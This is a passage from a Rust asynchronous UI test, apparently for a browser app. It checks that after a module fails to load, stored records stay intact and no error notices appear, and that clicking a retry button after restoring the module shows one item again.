    assert!(said.contains("safe and unchanged"), "{said}");
    assert_eq!(
        count(&c, ".soc2r-notices .notice.error").await,
        0,
        "no record called unreadable"
    );
    assert_eq!(
        records(storage_keys(&c).await),
        stored,
        "nothing lost or written"
    );

    std::fs::rename(&kept, &module).unwrap();
    click(&c, "#readers-failed button").await;
    wait_for(&c, ".soc2r-item").await;
    assert_eq!(count(&c, ".soc2r-item").await, 1);
    c.close().await.unwrap();
}
